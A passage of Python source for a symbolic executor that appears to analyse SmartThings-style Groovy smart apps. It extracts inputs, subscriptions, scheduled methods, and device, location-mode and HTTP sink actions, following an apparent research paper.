        named = call.named_args()
        multiple = isinstance(named.get("multiple"), ast.BoolLiteral) and named[
            "multiple"
        ].value
        if input_type.startswith("capability."):
            self._inputs[name] = DeviceRef(name, input_type, multiple)
        elif input_type.startswith("device."):
            # Non-standard device-type inputs (paper §VIII-B: Feed My Pet,
            # Sleepy Time).  In strict mode this reproduces the pre-fix
            # extraction failure.
            if self._strict:
                raise SymbolicExecutionError(
                    f"unsupported non-standard device type {input_type!r} "
                    f"for input {name!r}"
                )
            self._inputs[name] = DeviceRef(name, input_type, multiple)
        elif input_type in _VALUE_INPUT_TYPES:
            self._inputs[name] = UserInput(name, input_type)
        else:
            self._ctx.warnings.append(
                f"input {name!r} has unknown type {input_type!r}; treating "
                "as an opaque user input"
            )
            self._inputs[name] = UserInput(name, input_type)
        default = call.named_args().get("defaultValue")
        if isinstance(default, (ast.IntLiteral, ast.DecimalLiteral, ast.StringLiteral,
                                ast.BoolLiteral)):
            self._defaults[name] = default.value

    # ------------------------------------------------------------------
    # Entry points and handlers

    def _run_entry_points(self) -> None:
        for entry in ("installed", "updated"):
            method = self._module.method(entry)
            if method is None:
                continue
            self._current_trigger = Trigger(subject="install", attribute="lifecycle")
            self._current_subscription = None
            state = self._fresh_state()
            self._exec_block(method.body, state)
        self._current_trigger = None

    def _run_handler(self, subscription: Subscription) -> None:
        method = self._module.method(subscription.handler)
        if method is None:
            self._ctx.warnings.append(
                f"subscription handler {subscription.handler!r} is not defined"
            )
            return
        self._current_subscription = subscription
        self._current_trigger = Trigger(
            subject=(
                subscription.device.name
                if subscription.device is not None
                else subscription.subject
            ),
            attribute=subscription.attribute,
            constraint=(
                BinExpr("==", EventValue(), Const(subscription.value_filter))
                if subscription.value_filter is not None
                else None
            ),
            device=subscription.device,
        )
        state = self._fresh_state()
        if method.params:
            state.env[method.params[0].name] = _EVENT
        self._state_budget = _MAX_STATES
        self._exec_block(method.body, state)
        self._current_subscription = None
        self._current_trigger = None

    def _run_scheduled(self, entry: ScheduledEntry) -> None:
        method = self._module.method(entry.method)
        if method is None:
            self._ctx.warnings.append(
                f"scheduled method {entry.method!r} is not defined"
            )
            return
        self._current_subscription = None
        self._current_trigger = Trigger(subject="time", attribute=entry.attribute)
        state = self._fresh_state()
        state.when = entry.when
        state.period = entry.period
        self._state_budget = _MAX_STATES
        self._exec_block(method.body, state)
        self._current_trigger = None

    def _fresh_state(self) -> PathState:
        return PathState()

    # ------------------------------------------------------------------
    # Statement execution

    def _exec_block(self, block: ast.Block, state: PathState) -> list[PathState]:
        states = [state]
        for stmt in block.statements:
            next_states: list[PathState] = []
            for current in states:
                if current.halted:
                    next_states.append(current)
                    continue
                next_states.extend(self._exec_stmt(stmt, current))
            states = self._cap_states(next_states)
        return states

    def _cap_states(self, states: list[PathState]) -> list[PathState]:
        if len(states) > self._state_budget:
            self._ctx.warnings.append(
                f"path explosion capped at {self._state_budget} states"
            )
            return states[: self._state_budget]
        return states

    def _exec_stmt(self, stmt: ast.Stmt, state: PathState) -> list[PathState]:
        if isinstance(stmt, ast.ExprStmt):
            return [st for st, _val in self._eval(stmt.expr, state)]
        if isinstance(stmt, ast.VarDecl):
            return self._exec_var_decl(stmt, state)
        if isinstance(stmt, ast.Assignment):
            return self._exec_assignment(stmt, state)
        if isinstance(stmt, ast.IfStmt):
            return self._exec_if(stmt, state)
        if isinstance(stmt, ast.SwitchStmt):
            return self._exec_switch(stmt, state)
        if isinstance(stmt, ast.ForInStmt):
            return self._exec_for(stmt, state)
        if isinstance(stmt, ast.WhileStmt):
            return self._exec_while(stmt, state)
        if isinstance(stmt, ast.ReturnStmt):
            return self._exec_return(stmt, state)
        if isinstance(stmt, ast.BreakStmt):
            state.broke = True
            return [state]
        if isinstance(stmt, ast.LabeledStmt):
            return [st for st, _val in self._eval(stmt.value, state)]
        raise SymbolicExecutionError(
            f"unsupported statement {type(stmt).__name__} at {stmt.location}"
        )

    def _exec_var_decl(self, stmt: ast.VarDecl, state: PathState) -> list[PathState]:
        if stmt.initializer is None:
            state.env[stmt.name] = Const(None)
            return [state]
        results = []
        for st, value in self._eval(stmt.initializer, state):
            self._bind(st, stmt.name, value)
            results.append(st)
        return results

    def _exec_assignment(
        self, stmt: ast.Assignment, state: PathState
    ) -> list[PathState]:
        results = []
        for st, value in self._eval(stmt.value, state):
            if stmt.op in ("+=", "-="):
                current = self._read_target(stmt.target, st)
                op = stmt.op[0]
                value = self._binop(op, current, value)
            self._write_target(stmt.target, value, st)
            results.append(st)
        return results

    def _read_target(self, target: ast.Expr, state: PathState) -> SymExpr:
        pairs = self._eval(target, state)
        return pairs[0][1] if pairs else Const(None)

    def _write_target(
        self, target: ast.Expr, value: SymExpr, state: PathState
    ) -> None:
        if isinstance(target, ast.Identifier):
            self._bind(state, target.name, value)
            return
        if isinstance(target, ast.PropertyAccess):
            receiver_pairs = self._eval(target.receiver, state)
            receiver = receiver_pairs[0][1] if receiver_pairs else Const(None)
            if receiver is _STATE:
                state.state_store[target.name] = value
                return
            if receiver is _LOCATION and target.name == "mode":
                self._emit_sink_action(
                    state,
                    Action(subject="location", command="setLocationMode",
                           params=(value,), when=state.when, period=state.period),
                )
                return
            self._ctx.warnings.append(
                f"discarding write to unmodeled property {target.name!r}"
            )
            return
        if isinstance(target, ast.IndexAccess):
            receiver_pairs = self._eval(target.receiver, state)
            receiver = receiver_pairs[0][1] if receiver_pairs else Const(None)
            index_pairs = self._eval(target.index, state)
            index = index_pairs[0][1] if index_pairs else Const(None)
            if receiver is _STATE and isinstance(index, Const):
                state.state_store[str(index.value)] = value
                return
            self._ctx.warnings.append("discarding write through index access")
            return
        self._ctx.warnings.append(
            f"discarding write to unsupported target {type(target).__name__}"
        )

    def _bind(self, state: PathState, name: str, value: SymExpr) -> None:
        """Bind a local: atoms propagate, composites become LocalVars
        whose definitions are recorded as data constraints."""
        if isinstance(value, (Const, DeviceRef, EventValue, EventAttr, ListVal,
                              LocationAttr, TimeVal, StateVal, _Sentinel)):
            state.env[name] = value
            return
        version = state.versions.get(name, 0)
        state.versions[name] = version + 1
        local = LocalVar(name, version)
        state.define(local.key, value)
        state.env[name] = local

    def _exec_if(self, stmt: ast.IfStmt, state: PathState) -> list[PathState]:
        results: list[PathState] = []
        for st, condition in self._eval(stmt.condition, state):
            condition = self._as_boolean(condition)
            if isinstance(condition, Const):
                if self._truthy(condition):
                    results.extend(self._exec_block(stmt.then_block, st))
                elif stmt.else_block is not None:
                    results.extend(self._exec_block(stmt.else_block, st))
                else:
                    results.append(st)
                continue
            then_state = st.clone()
            then_state.assume(condition)
            results.extend(self._exec_block(stmt.then_block, then_state))
            else_state = st
            else_state.assume(negate(condition))
            if stmt.else_block is not None:
                results.extend(self._exec_block(stmt.else_block, else_state))
            else:
                results.append(else_state)
        return results

    def _exec_switch(self, stmt: ast.SwitchStmt, state: PathState) -> list[PathState]:
        results: list[PathState] = []
        for st, subject in self._eval(stmt.subject, state):
            negations: list[SymExpr] = []
            default_case: ast.SwitchCase | None = None
            for index, case in enumerate(stmt.cases):
                if case.match is None:
                    default_case = case
                    continue
                match_pairs = self._eval(case.match, st.clone())
                if not match_pairs:
                    continue
                branch, match_value = match_pairs[0]
                equality = self._binop("==", subject, match_value)
                if isinstance(equality, Const):
                    if not self._truthy(equality):
                        continue
                else:
                    negations.append(negate(equality))
                    branch.assume(equality)
                body = self._case_body(stmt.cases, index)
                done = self._exec_block(body, branch)
                for final in done:
                    final.broke = False
                results.extend(done)
            fallback = st
            for negation in negations:
                if not isinstance(negation, Const):
                    fallback.assume(negation)
            if default_case is not None:
                done = self._exec_block(default_case.body, fallback)
                for final in done:
                    final.broke = False
                results.extend(done)
            else:
                results.append(fallback)
        return results

    def _case_body(self, cases: list[ast.SwitchCase], index: int) -> ast.Block:
        """Concatenate fall-through case bodies until a break."""
        statements: list[ast.Stmt] = []
        for case in cases[index:]:
            statements.extend(case.body.statements)
            if case.has_break:
                break
        return ast.Block(location=cases[index].location, statements=statements)

    def _exec_for(self, stmt: ast.ForInStmt, state: PathState) -> list[PathState]:
        iterable_pairs = self._eval(stmt.iterable, state)
        results: list[PathState] = []
        for st, iterable in iterable_pairs:
            results.extend(
                self._iterate(stmt.variable, iterable, stmt.body, st)
            )
        return results

    def _iterate(
        self,
        variable: str,
        iterable: SymExpr,
        body: ast.Block,
        state: PathState,
    ) -> list[PathState]:
        items: list[SymExpr]
        if isinstance(iterable, ListVal):
            items = list(iterable.items)
        elif isinstance(iterable, Const) and isinstance(iterable.value, (list, tuple)):
            items = [
                item if isinstance(item, SymExpr) else Const(item)
                for item in iterable.value
            ]
        elif isinstance(iterable, DeviceRef):
            # A multi-device input: one symbolic pass, the loop variable
            # standing for the whole group.
            items = [iterable]
        else:
            items = [iterable]
        states = [state]
        for item in items[: max(_MAX_LOOP_UNROLL, len(items))]:
            next_states = []
            for st in states:
                if st.halted:
                    next_states.append(st)
                    continue
                st.env[variable] = item
                next_states.extend(self._exec_block(body, st))
            states = self._cap_states(next_states)
        for st in states:
            st.broke = False
        return states

    def _exec_while(self, stmt: ast.WhileStmt, state: PathState) -> list[PathState]:
        states = [state]
        for _iteration in range(_MAX_LOOP_UNROLL):
            next_states: list[PathState] = []
            for st in states:
                if st.halted:
                    next_states.append(st)
                    continue
                for cond_state, condition in self._eval(stmt.condition, st):
                    condition = self._as_boolean(condition)
                    if isinstance(condition, Const):
                        if self._truthy(condition):
                            next_states.extend(
                                self._exec_block(stmt.body, cond_state)
                            )
                        else:
                            cond_state.broke = True
                            next_states.append(cond_state)
                        continue
                    loop_state = cond_state.clone()
                    loop_state.assume(condition)
                    next_states.extend(self._exec_block(stmt.body, loop_state))
                    exit_state = cond_state
                    exit_state.assume(negate(condition))
                    exit_state.broke = True
                    next_states.append(exit_state)
            states = self._cap_states(next_states)
        for st in states:
            st.broke = False
        return states

    def _exec_return(self, stmt: ast.ReturnStmt, state: PathState) -> list[PathState]:
        if stmt.value is None:
            state.returned = True
            state.return_value = Const(None)
            return [state]
        results = []
        for st, value in self._eval(stmt.value, state):
            st.returned = True
            st.return_value = value
            results.append(st)
        return results

    # ------------------------------------------------------------------
    # Expression evaluation (list-of-(state, value) protocol)

    def _eval(self, expr: ast.Expr, state: PathState) -> list[tuple[PathState, SymExpr]]:
        if isinstance(expr, ast.IntLiteral):
            return [(state, Const(expr.value))]
        if isinstance(expr, ast.DecimalLiteral):
            return [(state, Const(expr.value))]
        if isinstance(expr, ast.StringLiteral):
            return [(state, Const(expr.value))]
        if isinstance(expr, ast.BoolLiteral):
            return [(state, Const(expr.value))]
        if isinstance(expr, ast.NullLiteral):
            return [(state, Const(None))]
        if isinstance(expr, ast.GStringLiteral):
            return self._eval_gstring(expr, state)
        if isinstance(expr, ast.ListLiteral):
            return self._eval_sequence(
                expr.elements, state, lambda vals: ListVal(tuple(vals))
            )
        if isinstance(expr, ast.MapLiteral):
            return self._eval_map(expr, state)
        if isinstance(expr, ast.RangeLiteral):
            return self._eval_range(expr, state)
        if isinstance(expr, ast.Identifier):
            return [(state, self._eval_identifier(expr.name, state))]
        if isinstance(expr, ast.PropertyAccess):
            return self._eval_property(expr, state)
        if isinstance(expr, ast.IndexAccess):
            return self._eval_index(expr, state)
        if isinstance(expr, ast.MethodCall):
            return self._eval_call(expr, state)
        if isinstance(expr, ast.ConstructorCall):
            return self._eval_constructor(expr, state)
        if isinstance(expr, ast.MethodPointer):
            return [(state, Const(expr.name))]
        if isinstance(expr, ast.BinaryOp):
            return self._eval_binary(expr, state)
        if isinstance(expr, ast.UnaryOp):
            return self._eval_unary(expr, state)
        if isinstance(expr, ast.TernaryOp):
            return self._eval_ternary(expr, state)
        if isinstance(expr, ast.ElvisOp):
            return self._eval_elvis(expr, state)
        if isinstance(expr, ast.ClosureExpr):
            return [(state, Const(expr))]  # closures are called, not valued
        if isinstance(expr, ast.CastExpr):
            return self._eval(expr.value, state)
        if isinstance(expr, ast.NamedArgument):
            return self._eval(expr.value, state)
        raise SymbolicExecutionError(
            f"unsupported expression {type(expr).__name__} at {expr.location}"
        )

    def _eval_sequence(self, exprs, state, combine):
        results = [(state, [])]
        for expr in exprs:
            next_results = []
            for st, values in results:
                for st2, value in self._eval(expr, st):
                    next_results.append((st2, values + [value]))
            results = next_results
        return [(st, combine(values)) for st, values in results]

    def _eval_gstring(self, expr: ast.GStringLiteral, state):
        parts: list[ast.Expr] = []
        literals: list[object] = []
        for part in expr.parts:
            literals.append(part)
        # Evaluate embedded expressions left to right.
        embedded = [part for part in expr.parts if isinstance(part, ast.Expr)]
        results = self._eval_sequence(embedded, state, lambda vals: vals)
        out = []
        for st, values in results:
            assembled: list[SymExpr] = []
            iterator = iter(values)
            for part in expr.parts:
                if isinstance(part, ast.Expr):
                    assembled.append(next(iterator))
                else:
                    assembled.append(Const(part))
            if all(isinstance(piece, Const) for piece in assembled):
                text = "".join(str(piece.value) for piece in assembled)
                out.append((st, Const(text)))
            else:
                out.append((st, Concat(tuple(assembled))))
        return out

    def _eval_map(self, expr: ast.MapLiteral, state):
        keys = [entry.key for entry in expr.entries]
        values = [entry.value for entry in expr.entries]
        results = self._eval_sequence(keys + values, state, lambda vals: vals)
        out = []
        for st, flat in results:
            half = len(flat) // 2
            mapping = {}
            for key, value in zip(flat[:half], flat[half:]):
                key_text = key.value if isinstance(key, Const) else str(key)
                mapping[key_text] = value
            out.append((st, Const(mapping)))
        return out

    def _eval_range(self, expr: ast.RangeLiteral, state):
        results = self._eval_sequence([expr.low, expr.high], state, tuple)
        out = []
        for st, (low, high) in results:
            if (
                isinstance(low, Const)
                and isinstance(high, Const)
                and isinstance(low.value, int)
                and isinstance(high.value, int)
                and high.value - low.value <= 64
            ):
                items = tuple(Const(i) for i in range(low.value, high.value + 1))
                out.append((st, ListVal(items)))
            else:
                out.append((st, CallExpr("range", (low, high))))
        return out

    def _eval_identifier(self, name: str, state: PathState) -> SymExpr:
        if name in state.env:
            return state.env[name]
        if name in self._inputs:
            return self._inputs[name]
        if name in ("state", "atomicState"):
            return _STATE
        if name == "location":
            return _LOCATION
        if name == "app":
            return _APP
        if name == "log":
            return _LOG
        if name == "Math":
            return _MATH
        if name == "settings":
            return _SETTINGS
        if name == "params":
            return CallExpr("params")
        if name == "it":
            return Const(None)
        if name == "this":
            return _APP
        self._ctx.warnings.append(f"unknown identifier {name!r} treated as null")
        return Const(None)

    def _eval_property(self, expr: ast.PropertyAccess, state):
        out = []
        for st, receiver in self._eval(expr.receiver, state):
            out.append((st, self._property_on(receiver, expr.name, st)))
        return out

    def _property_on(self, receiver: SymExpr, name: str, state: PathState) -> SymExpr:
        if receiver is _EVENT:
            return self._event_property(name)
        if receiver is _STATE:
            return state.state_store.get(name, StateVal(name))
        if receiver is _LOCATION:
            kind = api_models.LOCATION_PROPERTIES.get(name)
            if kind == "mode":
                return LocationAttr("mode")
            if kind is None:
                self._ctx.warnings.append(
                    f"unmodeled location property {name!r}"
                )
            return LocationAttr(name)
        if receiver is _APP:
            return CallExpr(f"app.{name}")
        if receiver is _SETTINGS:
            return self._inputs.get(name, Const(None))
        if isinstance(receiver, DeviceRef):
            if name.startswith("current") and len(name) > len("current"):
                attribute = name[len("current"):]
                attribute = attribute[0].lower() + attribute[1:]
                return DeviceAttr(receiver, attribute)
            if name.startswith("latest") and len(name) > len("latest"):
                attribute = name[len("latest"):]
                attribute = attribute[0].lower() + attribute[1:]
                return DeviceAttr(receiver, attribute)
            kind = api_models.DEVICE_PROPERTIES.get(name)
            if kind == "device_id":
                return CallExpr("deviceId", (receiver,))
            if kind == "display_name":
                return CallExpr("displayName", (receiver,))
            return CallExpr(f"device.{name}", (receiver,))
        if isinstance(receiver, DeviceAttr):
            # currentState("attr").value / .numberValue style accesses.
            if name in ("value", "stringValue"):
                return receiver
            if name.endswith("Value") or name in ("date", "unit"):
                return receiver
            return CallExpr(f"attrState.{name}", (receiver,))
        if isinstance(receiver, Const) and isinstance(receiver.value, dict):
            value = receiver.value.get(name, Const(None))
            return value if isinstance(value, SymExpr) else Const(value)
        if isinstance(receiver, EventValue):
            return receiver
        if isinstance(receiver, Const) and receiver.value is None:
            return Const(None)
        return CallExpr(f"prop.{name}", (receiver,))

    def _event_property(self, name: str) -> SymExpr:
        kind = api_models.EVENT_PROPERTIES.get(name)
        subscription = self._current_subscription
        if kind in ("value", "numeric_value"):
            return EventValue()
        if kind == "attribute_name":
            if subscription is not None:
                return Const(subscription.attribute)
            return EventAttr("name")
        if kind == "device" and subscription is not None and subscription.device:
            return subscription.device
        if kind == "device_id" and subscription is not None and subscription.device:
            return CallExpr("deviceId", (subscription.device,))
        if kind == "date":
            return TimeVal("event")
        if kind == "state_change":
            return Const(True)
        if kind is None:
            self._ctx.warnings.append(f"unmodeled event property {name!r}")
        return EventAttr(name)

    def _eval_index(self, expr: ast.IndexAccess, state):
        results = self._eval_sequence([expr.receiver, expr.index], state, tuple)
        out = []
        for st, (receiver, index) in results:
            if receiver is _STATE and isinstance(index, Const):
                key = str(index.value)
                out.append((st, st.state_store.get(key, StateVal(key))))
            elif (
                isinstance(receiver, ListVal)
                and isinstance(index, Const)
                and isinstance(index.value, int)
                and 0 <= index.value < len(receiver.items)
            ):
                out.append((st, receiver.items[index.value]))
            elif isinstance(receiver, Const) and isinstance(receiver.value, dict):
                key = index.value if isinstance(index, Const) else str(index)
                value = receiver.value.get(key, Const(None))
                out.append(
                    (st, value if isinstance(value, SymExpr) else Const(value))
                )
            else:
                out.append((st, CallExpr("index", (receiver, index))))
        return out

    def _eval_binary(self, expr: ast.BinaryOp, state):
        results = self._eval_sequence([expr.left, expr.right], state, tuple)
        return [(st, self._binop(expr.op, left, right)) for st, (left, right) in results]

    def _binop(self, op: str, left: SymExpr, right: SymExpr) -> SymExpr:
        if isinstance(left, Const) and isinstance(right, Const):
            folded = self._fold(op, left.value, right.value)
            if folded is not None:
                return folded
        return BinExpr(op, left, right)

    @staticmethod
    def _fold(op: str, a, b) -> Const | None:
        try:
            if op == "+":
                if isinstance(a, str) or isinstance(b, str):
                    return Const(str(a) + str(b))
                return Const(a + b)
            if op == "-":
                return Const(a - b)
            if op == "*":
                return Const(a * b)
            if op == "/":
                return Const(a / b) if b else None
            if op == "%":
                return Const(a % b) if b else None
            if op == "**":
                return Const(a ** b)
            if op == "==":
                return Const(a == b)
            if op == "!=":
                return Const(a != b)
            if op == "<":
                return Const(a < b)
            if op == "<=":
                return Const(a <= b)
            if op == ">":
                return Const(a > b)
            if op == ">=":
                return Const(a >= b)
            if op == "&&":
                return Const(bool(a) and bool(b))
            if op == "||":
                return Const(bool(a) or bool(b))
            if op == "in":
                return Const(a in b) if isinstance(b, (list, tuple, str)) else None
        except TypeError:
            return None
        return None

    def _eval_unary(self, expr: ast.UnaryOp, state):
        out = []
        for st, operand in self._eval(expr.operand, state):
            if expr.op == "!":
                operand = self._as_boolean(operand)
                if isinstance(operand, Const):
                    out.append((st, Const(not self._truthy(operand))))
                else:
                    out.append((st, negate(operand)))
            elif expr.op == "-":
                if isinstance(operand, Const) and isinstance(operand.value, (int, float)):
                    out.append((st, Const(-operand.value)))
                else:
                    out.append((st, BinExpr("-", Const(0), operand)))
            else:  # ++/-- pre/post: numeric bump, value semantics ignored
                out.append((st, operand))
        return out

    def _eval_ternary(self, expr: ast.TernaryOp, state):
        """The paper handles ternaries by breaking each into two branches."""
        out = []
        for st, condition in self._eval(expr.condition, state):
            condition = self._as_boolean(condition)
            if isinstance(condition, Const):
                chosen = expr.if_true if self._truthy(condition) else expr.if_false
                out.extend(self._eval(chosen, st))
                continue
            true_state = st.clone()
            true_state.assume(condition)
            out.extend(self._eval(expr.if_true, true_state))
            false_state = st
            false_state.assume(negate(condition))
            out.extend(self._eval(expr.if_false, false_state))
        return out

    def _eval_elvis(self, expr: ast.ElvisOp, state):
        out = []
        for st, value in self._eval(expr.value, state):
            if isinstance(value, Const):
                if self._truthy(value):
                    out.append((st, value))
                else:
                    out.extend(self._eval(expr.fallback, st))
                continue
            # Symbolic: prefer the primary value (the fallback only covers
            # the unconfigured case, which configuration collection fills).
            out.append((st, value))
        return out

    def _eval_constructor(self, expr: ast.ConstructorCall, state):
        if expr.type_name in ("Date", "java.util.Date"):
            return [(state, TimeVal("now"))]
        results = self._eval_sequence(
            [arg for arg in expr.args if not isinstance(arg, ast.NamedArgument)],
            state,
            tuple,
        )
        return [
            (st, CallExpr(f"new.{expr.type_name}", tuple(values)))
            for st, values in results
        ]

    @staticmethod
    def _truthy(constant: Const) -> bool:
        return bool(constant.value)

    def _as_boolean(self, value: SymExpr) -> SymExpr:
        """Groovy truth: null/empty are false.  Symbolic non-boolean
        expressions are compared against null."""
        if isinstance(value, Const):
            return value
        if isinstance(value, NotExpr):
            return value
        if isinstance(value, BinExpr) and (
            value.is_comparison or value.is_logical or value.op == "in"
        ):
            return value
        if isinstance(value, (DeviceRef, ListVal)):
            return Const(True)
        return BinExpr("!=", value, Const(None))

    # ------------------------------------------------------------------
    # Calls

    def _eval_call(self, expr: ast.MethodCall, state):
        if expr.receiver is None:
            return self._eval_global_call(expr, state)
        out = []
        for st, receiver in self._eval(expr.receiver, state):
            out.extend(self._call_on(receiver, expr, st))
        return out

    def _eval_args(self, expr: ast.MethodCall, state):
        positional = [
            arg for arg in expr.args
            if not isinstance(arg, (ast.NamedArgument, ast.ClosureExpr))
        ]
        closures = [arg for arg in expr.args if isinstance(arg, ast.ClosureExpr)]
        named = {
            arg.name: arg.value
            for arg in expr.args
            if isinstance(arg, ast.NamedArgument)
        }
        results = self._eval_sequence(positional, state, lambda vals: vals)
        return results, closures, named

    def _eval_global_call(self, expr: ast.MethodCall, state):
        name = expr.name
        # Platform metadata DSL: consumed during input collection.
        if name in ("definition", "preferences", "section", "input", "page",
                    "dynamicPage", "metadata", "mappings", "path", "include",
                    "paragraph", "label", "mode", "href", "icon"):
            return [(state, Const(None))]
        if name == "subscribe":
            return self._handle_subscribe(expr, state)
        if name in api_models.NOOP_APIS:
            return [(state, Const(None))]
        if name in api_models.SCHEDULING_APIS:
            return self._handle_schedule(expr, state)
        if name in ("httpGet", "httpPost", "httpPostJson", "httpPut",
                    "httpPutJson", "httpDelete", "httpHead"):
            return self._handle_http(expr, state)
        if name in api_models.SINK_APIS:
            return self._handle_api_sink(expr, state)
        if name == "now":
            return [(state, TimeVal("now"))]
        if name in api_models.TIME_PREDICATES or name in api_models.PURE_APIS:
            results, _closures, _named = self._eval_args(expr, state)
            return [
                (st, CallExpr(name, tuple(values))) for st, values in results
            ]
        method = self._module.method(name)
        if method is not None:
            return self._inline_method(method, expr, state)
        results, closures, _named = self._eval_args(expr, state)
        if closures:
            self._ctx.warnings.append(
                f"closure argument to unmodeled function {name!r} skipped"
            )
        self._ctx.warnings.append(f"unmodeled function {name!r}")
        return [(st, CallExpr(name, tuple(values))) for st, values in results]

    def _inline_method(self, method: ast.MethodDecl, expr: ast.MethodCall, state):
        if state.call_depth >= _MAX_CALL_DEPTH:
            self._ctx.warnings.append(
                f"call depth limit reached inlining {method.name!r}"
            )
            return [(state, Const(None))]
        results, _closures, _named = self._eval_args(expr, state)
        out = []
        for st, values in results:
            call_state = st
            saved_env = dict(call_state.env)
            call_state.call_depth += 1
            for index, param in enumerate(method.params):
                if index < len(values):
                    call_state.env[param.name] = values[index]
                elif param.default is not None:
                    default_pairs = self._eval(param.default, call_state)
                    call_state.env[param.name] = (
                        default_pairs[0][1] if default_pairs else Const(None)
                    )
                else:
                    call_state.env[param.name] = Const(None)
            finished = self._exec_block(method.body, call_state)
            for final in finished:
                value = final.return_value if final.returned else Const(None)
                final.returned = False
                final.return_value = None
                final.broke = False
                final.call_depth -= 1
                # Callee locals go out of scope; restore the caller's env.
                final.env = dict(saved_env)
                out.append((final, value if value is not None else Const(None)))
        return out

    def _handle_subscribe(self, expr: ast.MethodCall, state):
        positional = expr.positional_args()
        if len(positional) < 2:
            return [(state, Const(None))]
        target = positional[0]
        handler_name = self._method_name_of(positional[-1])
        attribute_expr = positional[1] if len(positional) >= 3 else None
        attribute = None
        value_filter = None
        if attribute_expr is not None:
            if isinstance(attribute_expr, ast.StringLiteral):
                attribute = attribute_expr.value
            else:
                pairs = self._eval(attribute_expr, state)
                if pairs and isinstance(pairs[0][1], Const):
                    attribute = str(pairs[0][1].value)
        if attribute is not None and "." in attribute:
            attribute, value_filter = attribute.split(".", 1)
        if handler_name is None:
            self._ctx.warnings.append("subscribe() with unresolvable handler")
            return [(state, Const(None))]
        subject = "device"
        device: DeviceRef | None = None
        if isinstance(target, ast.Identifier) and target.name == "location":
            subject = "location"
            attribute = attribute or "mode"
        elif isinstance(target, ast.Identifier) and target.name == "app":
            subject = "app"
            attribute = attribute or "appTouch"
        else:
            pairs = self._eval(target, state)
            value = pairs[0][1] if pairs else Const(None)
            if isinstance(value, DeviceRef):
                device = value
            elif isinstance(value, ListVal) and value.items and isinstance(
                value.items[0], DeviceRef
            ):
                device = value.items[0]
            else:
                self._ctx.warnings.append(
                    "subscribe() target did not resolve to a device"
                )
                return [(state, Const(None))]
        if attribute is None:
            attribute = "unknown"
        subscription = Subscription(
            subject=subject,
            device=device,
            attribute=attribute,
            value_filter=value_filter,
            handler=handler_name,
        )
        key = (
            subject,
            device.name if device else None,
            attribute,
            value_filter,
            handler_name,
        )
        self._ctx.subscriptions.setdefault(key, subscription)
        return [(state, Const(None))]

    @staticmethod
    def _method_name_of(expr: ast.Expr) -> str | None:
        if isinstance(expr, ast.Identifier):
            return expr.name
        if isinstance(expr, ast.StringLiteral):
            return expr.value
        if isinstance(expr, ast.MethodPointer):
            return expr.name
        return None

    def _handle_schedule(self, expr: ast.MethodCall, state):
        model = api_models.SCHEDULING_APIS[expr.name]
        positional = expr.positional_args()
        if model.method_arg >= len(positional):
            return [(state, Const(None))]
        method_name = self._method_name_of(positional[model.method_arg])
        if method_name is None:
            self._ctx.warnings.append(
                f"{expr.name}() with unresolvable method argument"
            )
            return [(state, Const(None))]
        delay: float | SymExpr = model.fixed_delay
        if model.delay_arg is not None and model.delay_arg < len(positional):
            pairs = self._eval(positional[model.delay_arg], state)
            value = pairs[0][1] if pairs else Const(0)
            state = pairs[0][0] if pairs else state
            if isinstance(value, Const) and isinstance(value.value, (int, float)):
                delay = float(value.value)
            else:
                delay = value
        inside_handler = self._current_trigger is not None and (
            self._current_trigger.subject != "install"
        )
        if inside_handler:
            # Trace into the scheduled method with the delay attached
            # (the paper's `when` property for delayed commands).
            method = self._module.method(method_name)
            if method is None:
                self._ctx.warnings.append(
                    f"scheduled method {method_name!r} is not defined"
                )
                return [(state, Const(None))]
            if state.call_depth >= _MAX_CALL_DEPTH:
                # Mutually recursive runIn chains (e.g. strobe malware)
                # would otherwise unroll forever.
                self._ctx.warnings.append(
                    f"schedule depth limit reached tracing {method_name!r}"
                )
                return [(state, Const(None))]
            call_state = state
            saved_when = call_state.when
            call_state.when = self._add_delay(call_state.when, delay)
            call_state.call_depth += 1
            if model.fixed_period:
                call_state.period = model.fixed_period
            finished = self._exec_block(method.body, call_state)
            out = []
            for final in finished:
                final.returned = False
                final.return_value = None
                final.when = saved_when
                final.call_depth -= 1
                out.append((final, Const(None)))
            return out
        entry = ScheduledEntry(
            method=method_name,
            attribute=model.trigger_attribute,
            when=delay,
            period=model.fixed_period,
        )
        self._ctx.scheduled.setdefault((method_name, model.trigger_attribute), entry)
        return [(state, Const(None))]

    @staticmethod
    def _add_delay(base: float | SymExpr, delay: float | SymExpr) -> float | SymExpr:
        if isinstance(base, (int, float)) and isinstance(delay, (int, float)):
            return base + delay
        base_expr = Const(base) if isinstance(base, (int, float)) else base
        delay_expr = Const(delay) if isinstance(delay, (int, float)) else delay
        if isinstance(base_expr, Const) and base_expr.value == 0:
            return delay_expr
        return BinExpr("+", base_expr, delay_expr)

    def _handle_http(self, expr: ast.MethodCall, state):
        results, closures, _named = self._eval_args(expr, state)
        out = []
        for st, values in results:
            self._emit_sink_action(
                st,
                Action(
                    subject="network",
                    command=expr.name,
                    params=tuple(values),
                    when=st.when,
                    period=st.period,
                ),
            )
            if closures:
                closure = closures[0]
                if closure.params:
                    st.env[closure.params[0].name] = CallExpr("httpResponse")
                else:
                    st.env["it"] = CallExpr("httpResponse")
                for final in self._exec_block(closure.body, st):
                    final.returned = False
                    final.broke = False
                    out.append((final, Const(None)))
            else:
                out.append((st, Const(None)))
        return out

    def _handle_api_sink(self, expr: ast.MethodCall, state):
        model = api_models.SINK_APIS[expr.name]
        results, _closures, _named = self._eval_args(expr, state)
        out = []
        for st, values in results:
            self._emit_sink_action(
                st,
                Action(
                    subject=model.subject,
                    command=expr.name,
                    params=tuple(values),
                    when=st.when,
                    period=st.period,
                ),
            )
            out.append((st, Const(None)))
        return out

    def _call_on(self, receiver: SymExpr, expr: ast.MethodCall, state):
        name = expr.name
        if receiver is _LOG:
            return [(state, Const(None))]
        if receiver is _MATH:
            results, _closures, _named = self._eval_args(expr, state)
            return [
                (st, CallExpr(f"Math.{name}", tuple(values)))
                for st, values in results
            ]
        if receiver is _EVENT:
            return [(state, self._event_property(name))]
        if receiver is _LOCATION:
            if name in ("setMode",):
                results, _closures, _named = self._eval_args(expr, state)
                out = []
                for st, values in results:
                    self._emit_sink_action(
                        st,
                        Action(subject="location", command="setLocationMode",
                               params=tuple(values), when=st.when,
                               period=st.period),
                    )
                    out.append((st, Const(None)))
                return out
            return [(state, LocationAttr(name))]
        if receiver is _STATE:
            return [(state, CallExpr(f"state.{name}"))]
        if isinstance(receiver, DeviceRef):
            return self._call_on_device(receiver, expr, state)
        if isinstance(receiver, ListVal):
            return self._call_on_list(receiver, expr, state)
        return self._call_generic(receiver, expr, state)

